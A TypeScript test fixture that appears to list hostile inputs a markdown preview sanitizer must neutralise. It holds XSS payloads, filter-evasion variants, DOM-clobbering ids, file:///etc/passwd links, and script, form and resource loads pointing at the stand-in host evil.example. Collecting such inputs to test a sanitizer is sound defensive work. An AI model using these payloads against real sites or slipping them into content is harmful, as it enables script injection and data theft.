/** What a post could hold to run a script, to load something or to leave the page; none of it may work. By where it stands. */
export const hostile: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script src="https://evil.example/x.js"></script>', '<scr<script>ipt>alert(1)</script>', '<script\n>alert(1)</script\n>',
    '<script type="module">import "https://evil.example/x.js"</script>', '<svg><script>alert(1)</script></svg>', '<math><script>alert(1)</script></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>', '<textarea><script>alert(1)</script></textarea>', '<title><script>alert(1)</script></title>', '<xmp><script>alert(1)</script></xmp>', '<plaintext><script>alert(1)</script>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<style><script>alert(1)</script></style>', '<!--><script>alert(1)</script>-->', '<!-- --!><script>alert(1)</script> -->', '<![CDATA[<script>alert(1)</script>]]>', '<?php echo "<script>alert(1)</script>" ?>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"', '<img/src=x/onerror=alert(1)>', '<IMG SRC=x ONERROR=alert(1)>', '<img src=x onload=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<body onload=alert(1)>',
    '<p onclick="alert(1)">x</p>', '<p onmouseover=alert(1)>x</p>', '<a href="#" onfocus=alert(1) autofocus>x</a>', '<details ontoggle=alert(1) open><summary>x</summary></details>', '<input autofocus onfocus=alert(1)>', '<select onfocus=alert(1) autofocus></select>',
    '<textarea onfocus=alert(1) autofocus></textarea>', '<marquee onstart=alert(1)>x</marquee>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)></audio>', '<div onpointerenter=alert(1)>x</div>', '<b onanimationstart=alert(1) style="animation:x 1s">x</b>',
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>', '<ul><li onwheel=alert(1)>x</li></ul>', '<p\nonclick\n=\nalert(1)>x</p>', '<p o\u006Eclick=alert(1)>x</p>', '<p/onclick=alert(1)>x</p>', '<p a="b"onclick=alert(1)>x</p>',
  ],
  addresses: [
    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](  javascript:alert(1))', '[x](java\u0000script:alert(1))', '[x](javascript&colon;alert(1))', '[x](javascript&#58;alert(1))', '[x](&#106;avascript:alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](\\javascript:alert(1))',
    '[x](<javascript:alert(1)>)', '[x](vbscript:msgbox(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](file:///etc/passwd)', '[x](command:workbench.action.terminal.new)', '[x](vscode://evil.example/x)',
    '[x](vscode-resource:/etc/passwd)', '[x](blob:https://evil.example/1)', '[x](about:blank)', '[x](view-source:x)', '[x][a]\n\n[a]: javascript:alert(1)', '[a]: data:text/html,x\n\n[a]', '<javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="javascript&#0000058alert(1)">x</a>', '<a href="vbscript:x">x</a>', '<a xlink:href="javascript:alert(1)">x</a>', '<area href="javascript:alert(1)">', '<a href="//evil.example" ping="https://evil.example/p">x</a>',
    '<a href="https://evil.example" target="_top">x</a>', '<a href="x" download>x</a>', '[![x](javascript:alert(1))](javascript:alert(1))', '![x](javascript:alert(1))', '![x](data:text/html,<script>alert(1)</script>)',
  ],
  loading: [
    '<iframe src="https://evil.example"></iframe>', '<iframe src="javascript:alert(1)"></iframe>', '<frame src="https://evil.example">', '<frameset><frame src="https://evil.example"></frameset>', '<object data="https://evil.example"></object>', '<object data="javascript:alert(1)">', '<embed src="https://evil.example">',
    '<applet code="x"></applet>', '<base href="https://evil.example">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta charset="utf-7">', '<link rel="stylesheet" href="https://evil.example/x.css">', '<link rel="preload" href="https://evil.example/x" as="script">', '<link rel=import href="https://evil.example">',
    '<style>@import url(https://evil.example/x.css)</style>', '<style>body{background:url(https://evil.example/x)}</style>', '<style>*{display:none}</style>', '<img srcset="https://evil.example/x 1x">', '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>', '<video src="https://evil.example/x" autoplay></video>',
    '<video poster="https://evil.example/x"></video>', '<audio src="https://evil.example/x" autoplay></audio>', '<track src="https://evil.example/x">', '<body background="https://evil.example/x">', '<img lowsrc="https://evil.example/x">', '<img dynsrc="https://evil.example/x">', '<bgsound src="https://evil.example/x">', '<input type="image" src="https://evil.example/x">',
    '<portal src="https://evil.example">', '<fencedframe src="https://evil.example">',
  ],
  svg: [
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', '<svg><use href="data:image/svg+xml,x#y"/></svg>', '<svg><image href="https://evil.example/x"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', '<svg><style>@import "https://evil.example/x"</style></svg>', '<svg><p><style><img src="</style><img src=x onerror=alert(1)>">', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<math href="javascript:alert(1)">x</math>', '<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ],
  forms: [
    '<form action="https://evil.example"><button>x', '<form action="javascript:alert(1)"><input type=submit>', '<button formaction="javascript:alert(1)">x</button>', '<isindex action="javascript:alert(1)">', '<input type="password" name="p">', '<form id="main"><input name="attributes"></form>', '<keygen autofocus onfocus=alert(1)>', '<dialog open><form method="dialog">x</form></dialog>',
  ],
  shadowing: [
    '<p id="galley">x</p>', '<a id="acquireVsCodeApi">x</a>', '<img name="body" src="x">', '<p id="main">x</p>', '<p class="galley-toolbar">x</p>', '<mark class="galley-mark" data-message="x" tabindex="0">x</mark>', '<span class="galley-template">x</span>', '<p data-line="999999999">x</p>', '<p data-src="https://evil.example">x</p>', '<p contenteditable>x</p>', '<p is="x-y">x</p>', '<p slot="x">x</p>', '<p popover>x</p>',
  ],
  styles: [
    '<p style="position:fixed;inset:0;background:red">x</p>', '<p style="background:url(https://evil.example/x)">x</p>', '<p style="width:expression(alert(1))">x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="-moz-binding:url(https://evil.example/x)">x</p>', '<p style="list-style-image:url(https://evil.example/x)">x</p>', '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
  ],
  attributes: [
    'x{: onclick="alert(1)"}', '*x*{: onclick="alert(1)"}', '[x](/a){: href="javascript:alert(1)"}', '![x](/a.png){: onerror="alert(1)" srcset="https://evil.example/x"}', '{: style="position:fixed" onload="alert(1)"}\nx', '## x {#id onclick="alert(1)"}', '## x {onclick="alert(1)"}', '{:bad: onclick="alert(1)"}\n\nx\n{:bad}', '> x\n{: .galley-toolbar #main}',
    '*[x]: "><script>alert(1)</script>\n\nx', 'x[^1]\n\n[^1]: <script>alert(1)</script>', 'x[^"><script>]\n\n[^"><script>]: y', '```"><script>alert(1)</script>\nx\n```', '``` js" onclick="alert(1)\nx\n```', '# <script>alert(1)</script>', '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |', '$$<script>alert(1)</script>$$', '{::nomarkdown}<script>alert(1)</script>{:/}',
    '<div markdown="1"><script>alert(1)</script></div>', '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
  ],
  templates: [
    '{{ "<script>alert(1)</script>" }}', '{{ page.evil }}', '{{ page.title | append: "<script>alert(1)</script>" }}', '{% assign x = "<img src=x onerror=alert(1)>" %}{{ x }}', '{% capture x %}<script>alert(1)</script>{% endcapture %}{{ x }}', '{% raw %}<script>alert(1)</script>{% endraw %}', '{% include <script>alert(1)</script> %}',
    '{% mystery <script>alert(1)</script> %}', '{{< figure src="javascript:alert(1)" caption="<script>alert(1)</script>" >}}', '{{< figure src="x" onerror="alert(1)" >}}', '{{< youtube "><script>alert(1)</script> >}}', '{{< mystery "<script>alert(1)</script>" >}}', '{% asset_img x.png" onerror="alert(1) %}', '{% youtube javascript:alert(1) %}',
    '[x]({{ "javascript:alert(1)" }})', '<a href="{{ "javascript:alert(1)" }}">x</a>', '<a href="java{% comment %}{% endcomment %}script:alert(1)">x</a>', '<img src="x" {{ "onerror=alert(1)" }}>', '\uE0000\uE001 \uE0009999\uE001', '<a href="\uE0000\uE001javascript:alert(1)">x</a>', '<scr\uE002ipt>alert(1)</script>', '<a href="java\uE002script:alert(1)">x</a>', '{{ page.constructor.constructor }}', '{{ page.__proto__ }}',
  ],
};
